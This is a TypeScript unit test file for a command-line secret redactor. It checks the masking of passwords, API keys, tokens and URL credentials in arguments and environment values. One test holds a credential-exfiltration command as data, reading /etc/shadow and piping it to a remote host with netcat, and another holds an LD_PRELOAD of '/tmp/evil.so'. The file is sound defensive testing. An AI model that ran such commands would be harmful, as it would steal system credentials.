import assert from 'node:assert/strict';
import { test } from 'node:test';
import { PalisadeError } from '@palisade/common';
import { ArgvRedactor, REDACTED } from './redact.js';

const r = new ArgvRedactor({ enabled: true });
const R = REDACTED;

test('named secrets: flag=value, NAME=value and a named flag followed by its value', () => {
  assert.deepEqual(r.redact(['mysql', '--password=hunter2', '-h', 'db']), ['mysql', `--password=${R}`, '-h', 'db']);
  assert.deepEqual(r.redact(['env', 'AWS_SECRET_ACCESS_KEY=abc/def', 'DB_PASSWORD=x', 'HOME=/root']),
    ['env', `AWS_SECRET_ACCESS_KEY=${R}`, `DB_PASSWORD=${R}`, 'HOME=/root']);
  assert.deepEqual(r.redact(['vault', 'login', '--token', 's.abcdef', '--method', 'x']),
    ['vault', 'login', '--token', R, '--method', 'x']);
  assert.deepEqual(r.redact(['tool', '--api-key', 'k1', '--client_secret=k2']), ['tool', '--api-key', R, `--client_secret=${R}`]);
});

test('inline secrets: URL credentials, bearer headers, well-known token formats', () => {
  assert.deepEqual(r.redact(['git', 'clone', 'https://bob:ghs_s3cr3t@github.com/x/y.git']),
    ['git', 'clone', `https://bob:${R}@github.com/x/y.git`]);
  assert.deepEqual(r.redact(['curl', '-H', 'Authorization: Bearer abcdefgh12345']), ['curl', '-H', `Authorization:${R}`]);
  assert.equal(r.redact(['x', 'Bearer abcdefgh12345'])[1], `Bearer ${R}`);
  assert.equal(r.redact(['aws', 'AKIAABCDEFGHIJKLMNOP'])[1], R);
  assert.equal(r.redact(['x', `ghp_${'a'.repeat(36)}`])[1], R);
  assert.equal(r.redact(['x', 'eyJhbGciOiJSUzI1.eyJpc3MiOiJrdWJl.c2lnbmF0dXJlMTIz'])[1], R);
});

test('what is not a secret is left alone, with no copy', () => {
  const argv = ['bash', '-c', 'cat /etc/shadow | nc 10.0.0.1 4444', '--auth-type', 'basic', '-p', '8080', 'password.txt'];
  assert.equal(r.redact(argv), argv);
  assert.deepEqual(new ArgvRedactor({ enabled: false }).redact(['x', '--password=y']), ['x', '--password=y']);
});

test('operator patterns redact their secret group or the whole match; a bad one is a config error', () => {
  const custom = new ArgvRedactor({ enabled: true, patterns: ['acme-[0-9a-f]{8}', 'pin:(?<secret>\\d+)'] });
  assert.deepEqual(custom.redact(['x', 'key=acme-deadbeef', 'pin:1234']), ['x', `key=${R}`, `pin:${R}`]);
  assert.equal(custom.redacted, 2);
  assert.throws(() => new ArgvRedactor({ enabled: true, patterns: ['('] }), (e: unknown) => e instanceof PalisadeError && e.code === 'CONFIG_INVALID');
});

test('exec environment values: checked as NAME=value, only the secret part replaced', () => {
  const env = new ArgvRedactor({ enabled: true, patterns: ['/secret-dir/(?<secret>[^/]+)'] });
  assert.equal(env.redactEnv('LD_PRELOAD', '/tmp/evil.so'), '/tmp/evil.so');
  assert.equal(env.redactEnv('LD_LIBRARY_PATH', 'https://u:hunter2@h/lib'), `https://u:${R}@h/lib`);
  assert.equal(env.redactEnv('LD_AUDIT', '/secret-dir/abc/x.so'), `/secret-dir/${R}/x.so`);
  assert.equal(env.redactEnv('LD_PRELOAD', ''), '');
  assert.equal(env.redacted, 2);
  assert.equal(new ArgvRedactor({ enabled: false }).redactEnv('LD_LIBRARY_PATH', 'https://u:p@h/'), 'https://u:p@h/');
});
